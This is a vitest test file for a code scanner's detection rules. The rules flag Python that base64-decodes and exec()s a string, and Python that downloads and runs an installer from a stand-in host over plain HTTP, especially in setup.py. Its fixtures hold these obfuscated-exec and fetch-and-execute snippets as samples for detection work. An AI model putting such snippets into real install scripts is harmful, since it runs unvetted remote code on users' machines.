import { describe, expect, it } from 'vitest';
import { testBuild } from '../../test-build.ts';
import { decodeExecute } from './decode-execute.ts';
import { remoteCode } from './remote-code.ts';

/** A bundle: too many calls to keep apart. */
const BUNDLE = `${'call(one, two)\n'.repeat(15_000)}\n`;

describe('decode-execute', () => {
  it.each([
    ['beside each other', '', 'error'],
    ['far apart', BUNDLE, undefined],
  ])('judges a decoding and an execution %s in a bundle', (_name, between, level) => {
    const text = `${BUNDLE}import base64\nx = base64.b64decode("cHJpbnQoMTIzNCk=")\n${between}exec(x)\n`;
    expect(decodeExecute.run(testBuild({ 'a.py': text }))[0]?.level).toBe(level);
  });
});

describe('remote-code-download', () => {
  const code = `import os, sys, subprocess, urllib.request
def get(url, name):
    path = os.path.join('/opt/tools', name)
    with open(path, 'wb') as file:
        file.write(urllib.request.urlopen(url).read())
    return path
subprocess.check_call([sys.executable, get('http://tools-of-nobody.io/install.py', 'install.py')])
`;

  it.each([
    ['maint/prepare.py', 'warn'],
    ['setup.py', 'error'],
  ])('judges plain HTTP in %s as %s', (path, level) => {
    const found = remoteCode.run(testBuild({ [path]: code }));
    expect(found.map((one) => [one.code, one.level])).toEqual([['remote-code-download', level]]);
  });
});
